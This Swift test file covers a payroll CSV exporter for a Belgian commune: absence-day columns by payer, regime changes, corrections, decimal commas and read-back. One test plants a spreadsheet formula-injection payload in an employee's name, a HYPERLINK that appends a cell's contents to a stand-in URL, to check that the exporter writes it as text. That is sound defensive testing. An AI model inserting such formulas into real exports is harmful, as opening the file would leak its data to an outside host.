import FicheApp
import FicheCSV
import FicheDomain
import FicheReplica
import Foundation
import XCTest

/// The payroll file: what payroll imports for one employer and month.
final class PayrollExportCSVTests: XCTestCase {
    func testOneLinePerDossierWithItsDaysByTypeInStableColumns() throws {
        let database = try QueueFixture.closingOnly()
        try database.applyPulled(QueueFixture.validatedElsewhere(QueueFixture.byClerkAC1))
        let rules = try RuleBook.bundled()
        let rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: false)
        XCTAssertEqual(file.header, [
            "dossier_number", "name", "scheduled_days", "worked_days", "paid_annual_leave", "paid_public_holiday",
            "paid_sick", "mutuality_sick", "paid_work_accident", "mutuality_work_accident", "paid_birth_leave",
            "mutuality_birth_leave", "paid_maternity", "mutuality_maternity", "paid_circumstance", "paid_compensatory_rest", "unpaid_strike",
            "unpaid_unjustified", "unpaid_time_credit", "unpaid_leave_without_pay", "unpaid_compelling_reasons",
            "unpaid_parental_leave_full", "unpaid_parental_leave_half", "unpaid_parental_leave_fifth",
            "mutuality_progressive_return", "paid_pregnancy_removal", "mutuality_pregnancy_removal", "paid_adoption_leave",
            "mutuality_adoption_leave", "training_minutes",
            "paid_absence_days", "unpaid_absence_days", "mutuality_absence_days", "sickness_days",
            "guaranteed_salary_days", "mutuality_sick_days", "availability_sick_days", "incapacity_start", "overtime_minutes",
            "lateness_minutes", "corrections", "submitted_entries", "draft_entries", "month_status", "regime_percent", "regime_changes",
        ])
        XCTAssertEqual(file.rows.count, 20, "every dossier of the commune, none of the CPAS")
        // November 2026: 21 weekdays; 2 November, 3 November (replacing All Saints on a Sunday) and
        // 11 November are holidays in Brussels. The leave validated on 2 and 3 November falls on
        // two holidays: no day of leave, three paid holidays.
        XCTAssertEqual(file.rows.first { $0[0] == "AC-000101" },
                       ["AC-000101", "Van den Bossche, Éloïse", "21", "18", "0", "3", "0", "0", "0", "0", "0", "0", "0",
                        "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0", "3", "0",
                        "0", "0", "0", "0", "0", "", "0", "0", "", "0", "0", "provisional", "", ""])
        XCTAssertEqual(file.rows.first { $0[0] == "AC-000102" }?[2...5], ["21", "18", "0", "3"])
        XCTAssertTrue(file.text.contains("\r\nAC-000101;Van den Bossche, Éloïse;21;18;0;3;"), file.text)
    }

    /// Who pays each day has its columns: a contract worker sick since 1 October is paid by the
    /// mutuality all November (the guaranteed month ended on 30 October, the holidays inside
    /// included); maternity is paid by the employer for a statutory worker, by the mutuality for
    /// a contract worker.
    func testDaysArePutInTheColumnOfWhoPaysThem() throws {
        let database = try QueueFixture.closingOnly()
        var batch = MirrorBatch()
        let absences: [(String, String, String, String)] = [
            ("dos-2", "sick", "2026-10-01", "2026-11-30"),        // AC-000102, contractual
            ("dos-4", "maternity", "2026-11-04", "2026-11-30"),   // AC-000104, statutory
            ("dos-5", "maternity", "2026-11-04", "2026-11-30"),   // AC-000105, contractual
        ]
        batch.timeRecords = absences.map { dossier, type, from, to in
            var record = TimeRecord.absence(id: "rec-\(dossier)", employerCode: "AC-IXL", dossierID: dossier, type: type,
                                            from: QueueFixture.date(from), to: QueueFixture.date(to),
                                            certificateReceived: true, enteredBy: "usr-ac-1")
            record.status = .validated
            return MirrorRow(record, employerCode: "AC-IXL", version: 1)
        }
        try database.applyPulled(batch)
        let rules = try RuleBook.bundled()
        let rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: false)
        func value(_ number: String, _ column: String) -> String? {
            guard let index = file.header.firstIndex(of: column) else { return nil }
            return file.rows.first { $0[0] == number }?[index]
        }
        let sick = ["paid_sick", "mutuality_sick", "paid_public_holiday", "sickness_days", "guaranteed_salary_days",
                    "mutuality_sick_days", "mutuality_absence_days", "incapacity_start", "worked_days"]
        XCTAssertEqual(sick.map { value("AC-000102", $0) }, ["0", "21", "0", "21", "0", "21", "21", "2026-10-01", "0"])
        // 4–30 November: 19 weekdays. The employer pays 11 November to the statutory worker as a
        // holiday; inside a maternity the mutuality pays, it is a maternity day.
        let maternity = ["paid_maternity", "mutuality_maternity", "paid_public_holiday", "mutuality_sick_days"]
        XCTAssertEqual(maternity.map { value("AC-000104", $0) }, ["18", "0", "3", "0"])
        XCTAssertEqual(maternity.map { value("AC-000105", $0) }, ["0", "19", "2", "0"])
        let read = try CSVSheet.read(try CSVText.decode(Data([0xEF, 0xBB, 0xBF]) + Data(file.text.utf8)).text)
        XCTAssertEqual(read.rows.map(\.fields), file.rows, "the new columns read back too")

        // The supplier's file: the same days under its codes, one line per type and payer.
        let codes = PayrollExportCSV.supplierCodes(rows: rows, catalogue: rules.absenceCatalogue)
        XCTAssertEqual(codes.header, ["dossier_number", "payroll_code", "absence_type", "payer", "days", "minutes"])
        XCTAssertEqual(codes.rows.filter { ["AC-000102", "AC-000104"].contains($0[0]) }, [
            ["AC-000102", "ABS-MAL", "sick", "mutuality_or_insurer", "21", ""],
            ["AC-000104", "ABS-JF", "public_holiday", "employer", "3", ""],
            ["AC-000104", "ABS-MAT", "maternity", "employer", "18", ""],
        ])
        XCTAssertFalse(codes.rows.contains { $0[4] == "0" }, "no line for a type without days")
    }

    /// A statutory worker past the sick-leave capital (appointed 2 September 2024: 63 days, used
    /// by 29 October) is paid the waiting allowance all November: `availability_sick_days`, in no
    /// `paid_` column, and a `waiting_allowance` line in the supplier's file. A contract worker's
    /// birth leave of 10 days: 3 in `paid_birth_leave`, 7 in `mutuality_birth_leave`.
    func testDaysPastTheCapitalAndBirthLeaveHaveTheirColumns() throws {
        let rules = try RuleBook.bundled()
        let holidays = try XCTUnwrap(rules.holidayCalendar(id: "brussels-local"))
        func line(_ number: String, _ category: StaffCategory, _ type: String, _ from: String, _ to: String,
                  month: String) throws -> PayrollExportRow {
            let career = Career(periods: [CareerPeriod(id: "c-\(number)", dossierID: number, start: try LocalDate.parse("2024-09-02"),
                                                       grade: "C2", scale: "C2", regime: .fullTime, schedule: .fullTime,
                                                       category: category)])
            var record = TimeRecord.absence(id: "r-\(number)", employerCode: "AC-IXL", dossierID: number, type: type,
                                            from: try LocalDate.parse(from), to: try LocalDate.parse(to),
                                            certificateReceived: true, enteredBy: "u")
            record.status = .validated
            let variables = PayrollVariables(dossierID: number, month: try YearMonth.parse(month), career: career,
                                             category: category, calendar: WorkCalendar(holidays: holidays, career: career),
                                             records: [record], catalogue: rules.absenceCatalogue,
                                             guaranteedSalary: rules.guaranteedSalary, sickLeaveCapital: rules.sickLeaveCapital)
            return PayrollExportRow(dossierID: number, dossierNumber: number, lastName: "Peeters", firstName: number,
                                    variables: variables)
        }
        let rows = [try line("S1", .statutory, "sick", "2026-08-03", "2026-11-30", month: "2026-11"),
                    try line("C1", .contractual, "birth_leave", "2026-11-16", "2026-11-27", month: "2026-11")]
        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: true)
        func value(_ number: String, _ column: String) -> String? {
            guard let index = file.header.firstIndex(of: column) else { return nil }
            return file.rows.first { $0[0] == number }?[index]
        }
        let columns = ["paid_sick", "paid_public_holiday", "paid_absence_days", "sickness_days", "availability_sick_days",
                       "worked_days", "paid_birth_leave", "mutuality_birth_leave", "mutuality_absence_days"]
        XCTAssertEqual(columns.map { value("S1", $0) }, ["0", "0", "0", "21", "21", "0", "0", "0", "0"])
        XCTAssertEqual(columns.map { value("C1", $0) }, ["0", "3", "6", "0", "0", "8", "3", "7", "7"])
        let codes = PayrollExportCSV.supplierCodes(rows: rows, catalogue: rules.absenceCatalogue)
        XCTAssertEqual(codes.rows, [
            ["S1", "ABS-MAL", "sick", "waiting_allowance", "21", ""],
            ["C1", "ABS-JF", "public_holiday", "employer", "3", ""],
            ["C1", "ABS-NAIS", "birth_leave", "employer", "3", ""],
            ["C1", "ABS-NAIS", "birth_leave", "mutuality_or_insurer", "7", ""],
        ])
    }

    /// A regime that changes within the month: the regime it starts with, then each change and its day.
    func testARegimeChangeInTheMonthIsWrittenWithItsDay() throws {
        func span(_ from: String, _ to: String, _ thousandths: Int) throws -> RegimeSpan {
            RegimeSpan(start: try LocalDate.parse(from), end: try LocalDate.parse(to),
                       regime: try RegimeFraction(thousandths: thousandths), grade: "C1", scale: "C1")
        }
        XCTAssertEqual(PayrollExportCSV.regimes([try span("2026-11-16", "2026-11-30", 800), try span("2026-11-01", "2026-11-15", 1000)]),
                       ["100", "2026-11-16:80"])
        XCTAssertEqual(PayrollExportCSV.regimes([try span("2026-11-01", "2026-11-09", 755), try span("2026-11-10", "2026-11-19", 755),
                                                 try span("2026-11-20", "2026-11-30", 500)]),
                       ["75.5", "2026-11-20:50"], "a new grade at the same regime is no regime change")
        XCTAssertEqual(PayrollExportCSV.regimes([]), ["", ""], "no career period: no regime to give")
    }

    /// A correction of an October leave, validated and booked in November, has its own line in
    /// the corrections file: the month it concerns, the entry before and after, and why; a
    /// cancellation has no "after". The monthly file only counts them.
    func testEachCorrectionBookedInTheMonthHasALineWithBeforeAfterAndReason() throws {
        let database = try QueueFixture.closingOnly()
        let batch = try QueueFixture.correctionsBookedInNovember()
        try database.applyPulled(batch)
        let lines = try database.payrollCorrections(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"))
        let file = PayrollExportCSV.corrections(lines)
        XCTAssertEqual(file.header.first, "dossier_number")
        XCTAssertEqual(file.rows.count, 2, "\(file.rows)")
        XCTAssertEqual(Array(file.rows[0][2...]), ["2026-10", "c-1", "o-1", "correction", "annual_leave", "2026-10-12", "2026-10-16",
                                                  "full", "annual_leave", "2026-10-13", "2026-10-14", "full",
                                                  "Retour anticipé; certificat"])
        XCTAssertEqual(Array(file.rows[1][5...9]), ["cancellation", "annual_leave", "2026-10-20", "2026-10-20", "full"])
        XCTAssertEqual(Array(file.rows[1][10...13]), ["", "", "", ""], "a cancellation has no after")
        XCTAssertTrue(file.text.contains("\"Retour anticipé; certificat\""), "a reason holding ';' is quoted")
        let read = try CSVSheet.read(try CSVText.decode(Data([0xEF, 0xBB, 0xBF]) + Data(file.text.utf8)).text)
        XCTAssertEqual(read.rows.map(\.fields), file.rows, "the file reads back to the same values")
        XCTAssertEqual(try database.payrollCorrections(employerCode: "AC-IXL", month: try YearMonth.parse("2026-10")), [])
    }

    /// A last name typed as a formula opens as text in a spreadsheet; the day counts stay numbers.
    func testANameThatIsAFormulaIsWrittenAsText() throws {
        let database = try QueueFixture.closingOnly()
        let rules = try RuleBook.bundled()
        var rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
        let index = try XCTUnwrap(rows.firstIndex { $0.dossierNumber == "AC-000101" })
        rows[index].lastName = "=HYPERLINK(\"http://x?\"&A2,\"De Coster\")"
        let text = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: true).text
        XCTAssertTrue(text.contains("\r\nAC-000101;\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"De Coster\"\"), Éloïse\";21;"), text)
        let parsed = try CSVTable.parse(text, separator: ";")
        XCTAssertEqual(parsed.first { $0.fields.first == "AC-000101" }?.fields[1],
                       "=HYPERLINK(\"http://x?\"&A2,\"De Coster\"), Éloïse")
    }

    /// The file as written to disk (mark, `;`, CRLF) reads back to the same header and values,
    /// the separator found without being told: what an import of it sees.
    func testTheFileReadsBackToTheSameValues() throws {
        let database = try QueueFixture.closingOnly()
        try database.applyPulled(QueueFixture.validatedElsewhere(QueueFixture.byClerkAC1))
        let rules = try RuleBook.bundled()
        var rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
        let index = try XCTUnwrap(rows.firstIndex { $0.dossierNumber == "AC-000101" })
        rows[index].lastName = "=1+1; -2"
        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: true)
        let read = try CSVSheet.read(try CSVText.decode(Data([0xEF, 0xBB, 0xBF]) + Data(file.text.utf8)).text)
        XCTAssertEqual(read.separator, ";")
        XCTAssertEqual(read.header?.fields, file.header)
        XCTAssertEqual(read.rows.map(\.fields), file.rows)
        XCTAssertTrue(file.rows.contains { $0[1] == "=1+1; -2, Éloïse" })
    }

    /// An entry still waiting for validation is not in the figures but is counted on its line,
    /// and a month still to come is refused.
    func testEntriesNotYetValidatedAreCountedAndAFutureMonthIsRefused() throws {
        let database = try QueueFixture.closingOnly()
        let rules = try RuleBook.bundled()
        let rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
        XCTAssertEqual(rows.map(\.submittedEntries).reduce(0, +), 1, "the entry waiting for validation")
        let file = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue, monthClosed: false)
        let submitted = try XCTUnwrap(file.header.firstIndex(of: "submitted_entries"))
        let status = try XCTUnwrap(file.header.firstIndex(of: "month_status"))
        let waiting = try XCTUnwrap(file.rows.first { $0[submitted] == "1" })
        XCTAssertEqual(waiting[status], "provisional")
        XCTAssertThrowsError(try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-12"),
                                                        rules: rules)) { error in
            XCTAssertEqual((error as? RuleViolation)?.code, "export.future_month", "the office's month is 11/2026")
        }
    }

    func testHalfDaysUseTheDecimalComma() {
        XCTAssertEqual(PayrollExportCSV.days(18.5), "18,5")
        XCTAssertEqual(PayrollExportCSV.days(19), "19")
        XCTAssertEqual(PayrollExportCSV.days(0), "0")
    }
}
